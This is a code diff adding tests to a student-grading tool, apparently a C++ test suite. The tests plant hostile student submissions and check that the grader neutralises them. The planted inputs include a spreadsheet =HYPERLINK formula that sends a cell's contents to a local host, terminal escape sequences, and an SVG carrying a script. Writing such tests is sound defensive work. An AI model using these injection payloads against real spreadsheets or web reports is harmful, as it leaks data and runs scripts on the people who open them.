@@ -271,6 +271,43 @@ TEST_F(Zor_Grade_Alone, AManifestGivesFoldersAndCommands) {
             std::string::npos);
 }
 
+// A student whose words are commands: an identifier a spreadsheet would
+// evaluate, and a program that writes terminal commands on standard
+// error. They reach every file as text, and the honest student beside
+// them keeps exactly the grade they get alone.
+TEST_F(Zor_Grade_Alone, HostileWordsAreShownNeverObeyed) {
+  fs::create_directories(At("ada"));
+  fs::create_directories(At("mal"));
+  fs::copy_file(STUDENT_SIMULATOR, At("ada/simulator"));
+  fs::copy_file(TEST_SOURCE_DIR "/simulators/prints_escapes.sh", At("mal/prints_escapes.sh"));
+  Write_File(At("both.csv"), "identifier,folder,command\nada,ada\n@mal,mal,sh prints_escapes.sh\n");
+  Write_File(At("alone.csv"), "identifier,folder,command\nada,ada\n");
+  for (const char* Class : {"both", "alone"}) {
+    Run_Result R = Run_Program(ZOR_GRADE_PATH, Folder, "", {},
+                               {"simulators", "--sandbox", "required", "--days", "4", "-o", std::string(Class) + "_out",
+                                std::string(Class) + ".csv"});
+    ASSERT_EQ(R.Exit_Status, 0) << R.Err;
+  }
+  std::string Both = Grades_Without_Seconds(Read_File(At("both_out/grades.csv")));
+  std::string Alone = Grades_Without_Seconds(Read_File(At("alone_out/grades.csv")));
+  EXPECT_EQ(Both.substr(0, Alone.size()), Alone);
+  EXPECT_NE(Both.find("\n'@mal,simulators,bad-exit,0.0,0,4,"), std::string::npos) << Both;
+  EXPECT_NE(Read_File(At("both_out/canvas.csv")).find("\r\n'@mal,,,'@mal,,0.0\r\n"), std::string::npos);
+  EXPECT_NE(Read_File(At("both_out/moodle.csv"))
+                .find("\r\n'@mal,0.0,\"bad-exit: followed the model on 0 of 4 days; day 1: exited with status 1, "
+                      "not 0\"\r\n"),
+            std::string::npos)
+      << Read_File(At("both_out/moodle.csv"));
+  const std::string Shown = "\\x1b]0;owned\\x07\\x1b[2J\\x0dthe program followed the model on all 200 days";
+  EXPECT_NE(Read_File(At("both_out/feedback/@mal.txt")).find(Shown), std::string::npos)
+      << Read_File(At("both_out/feedback/@mal.txt"));
+  EXPECT_NE(Read_File(At("both_out/report.html")).find(Shown), std::string::npos);
+  for (const char* File : {"grades.csv", "canvas.csv", "moodle.csv", "report.html", "feedback/@mal.txt"})
+    EXPECT_EQ(Read_File(At("both_out/") + File).find('\x1b'), std::string::npos) << File;
+  Run_Result Lint = Run_Program("/usr/bin/xmllint", Folder, "", {}, {"--noout", "both_out/report.html"});
+  EXPECT_EQ(Lint.Exit_Status, 0) << Lint.Err;
+}
+
 // Trouble is one line and status 2, before anything is graded or written.
 TEST_F(Zor_Grade_Alone, TroubleIsOneLineAndStatusTwo) {
   const std::vector<std::vector<std::string>> Cases = {
@@ -338,6 +375,31 @@ const char Escaping_Routine[] =
     "  if (F == NULL) { perror(OUTSIDE); exit(3); }\n"
     "  fclose(F);\n}\n";
 
+// Written as a student would: once the profiler has written its summary,
+// the words in it replaced by what a spreadsheet evaluates.
+const char Forged_Summary[] =
+    "#include <stdio.h>\n"
+    "__attribute__((destructor)) static void Forge(void) {\n"
+    "  FILE* F = fopen(\"summary\", \"r\");\n"
+    "  if (F == NULL) return;\n"
+    "  fclose(F);\n"
+    "  F = fopen(\"summary\", \"w\");\n"
+    "  if (F == NULL) return;\n"
+    "  fputs(\"sort_profile summary 1\\ncorrectness failed\\ncases 3\\n\"\n"
+    "        \"fault =HYPERLINK(\\\"http://127.0.0.1:9/?\\\"&A1,\\\"details\\\")\\nfault_kind -2+3\\n\", F);\n"
+    "  fclose(F);\n}\n";
+
+// And a picture of its growth with a script in it, where the profiler
+// would leave its own.
+const char Scripted_Picture[] =
+    "#include <stdio.h>\n"
+    "__attribute__((destructor)) static void Draw(void) {\n"
+    "  FILE* F = fopen(\"growth.svg\", \"w\");\n"
+    "  if (F == NULL) return;\n"
+    "  fputs(\"<svg xmlns='http://www.w3.org/2000/svg'><script>\"\n"
+    "        \"document.body.setAttribute('data-owned', 'yes')</script></svg>\\n\", F);\n"
+    "  fclose(F);\n}\n";
+
 const Routine_Kind Routines[] = {
     {"ana", "examples/sorts/merge_sort.c", nullptr},
     {"bo", "tests/routines/wrong_on_descending.c", nullptr},
@@ -349,6 +411,8 @@ const Routine_Kind Routines[] = {
     {"hu", nullptr, "int broken(\n"},
     {"ida", nullptr, nullptr},
     {"jo", "examples/sorts/merge_sort.c", nullptr},  // K out of the harness's range
+    {"kim", "examples/sorts/merge_sort.c", Forged_Summary},
+    {"lou", "examples/sorts/merge_sort.c", Scripted_Picture},
 };
 
 // How a crash in a routine shows: the sanitizer build's harness catches
@@ -432,7 +496,7 @@ Run_Result Zor_Grade_Sorts::First_Run;
 
 TEST_F(Zor_Grade_Sorts, TheClassGetsExactlyTheExpectedRows) {
   ASSERT_EQ(First_Run.Exit_Status, 0) << First_Run.Err;
-  EXPECT_EQ(First_Run.Out, "zor_grade: 10 students, 10 graded now, 0 unchanged since the last run; see out/report.html\n");
+  EXPECT_EQ(First_Run.Out, "zor_grade: 12 students, 12 graded now, 0 unchanged since the last run; see out/report.html\n");
   std::string Csv = Read_File(At("out/grades.csv"));
   EXPECT_EQ(Without_Timing(Csv),
             "id,task,verdict,score,cases_passed,cases_run,k,x,,,,,,,,,,,,,reason\r\n"
@@ -450,7 +514,11 @@ TEST_F(Zor_Grade_Sorts, TheClassGetsExactlyTheExpectedRows) {
             "status 1\r\n"
             "ida,sorts,missing,0.0,0,0,,,,,,,,,,,,,,,\"no C or C++ source (.c, .cc, .cpp, .cxx) in the folder\"\r\n"
             "jo,sorts,bad-parameters,0.0,0,0,,,,,,,,,,,,,,,\"the file sort_parameters holds K 25, X 7: K must be 0 to 20 "
-            "and X 0 to 500 (sort_bench(3))\"\r\n");
+            "and X 0 to 500 (sort_bench(3))\"\r\n"
+            "kim,sorts,'-2+3,0.0,2,3,0,0,,,,,,,,,,,,,\"'=HYPERLINK(http://127.0.0.1:9/?&A1,details)\"\r\n"
+            "lou,sorts,sorted,,140,140,0,0,,,,,,,,,,,,,\r\n");
+  EXPECT_NE(Read_File(At("out/moodle.csv")).find("\r\nkim,0.0,\"'-2+3: sorted 2 of 3 lists right; =HYPERLINK("),
+            std::string::npos);
   // What timing gives, as far as it does not depend on the machine: the
   // example merge sort grows as the kit's merge sort does, the two
   // correct routines are ranked, and a correct routine scores at least
@@ -471,7 +539,7 @@ TEST_F(Zor_Grade_Sorts, TheClassGetsExactlyTheExpectedRows) {
     }
   }
   std::sort(Ranks.begin(), Ranks.end());
-  EXPECT_EQ(Ranks, (std::vector<std::string>{"1", "2"}));
+  EXPECT_EQ(Ranks, (std::vector<std::string>{"1", "2", "3"}));
   // The routine that writes outside its folder, contained, wrote nothing there.
   EXPECT_FALSE(File_Exists(At("outside/planted")));
 }
@@ -500,10 +568,15 @@ TEST_F(Zor_Grade_Sorts, FeedbackReportAndRerun) {
   std::string Html = Read_File(At("out/report.html"));
   size_t Pictures = 0;
   for (size_t At = Html.find("<svg "); At != std::string::npos; At = Html.find("<svg ", At + 1)) Pictures++;
-  EXPECT_EQ(Pictures, 1u + 2u) << "the histogram and the growth of each routine timed";
-  EXPECT_NE(Html.find("ana: CPU time per item against list size (K 3, X 7)"), std::string::npos);
+  EXPECT_EQ(Pictures, 1u + 3u) << "the histogram and the growth of each routine timed";
+  EXPECT_NE(Html.find("ana: how its CPU time grows with the list, per order of list"), std::string::npos);
+  // The picture lou's profiler left is not on the page: its script is not either.
+  size_t Scripts = 0;
+  for (size_t At = Html.find("<script"); At != std::string::npos; At = Html.find("<script", At + 1)) Scripts++;
+  EXPECT_EQ(Scripts, 1u);
+  EXPECT_EQ(Html.find("data-owned"), std::string::npos);
   Run_Result Again = Grade({"class"});
-  EXPECT_EQ(Again.Out, "zor_grade: 10 students, 0 graded now, 10 unchanged since the last run; see out/report.html\n");
+  EXPECT_EQ(Again.Out, "zor_grade: 12 students, 0 graded now, 12 unchanged since the last run; see out/report.html\n");
   Run_Result Other = Run_Program(ZOR_GRADE_PATH, Root, "", {}, {"simulators", "-o", "out", "class"});
   EXPECT_EQ(Other.Exit_Status, 2);
   EXPECT_EQ(Other.Err, "zor_grade: out holds the grading of sorts; give simulators an output folder of their own (-o)\n");
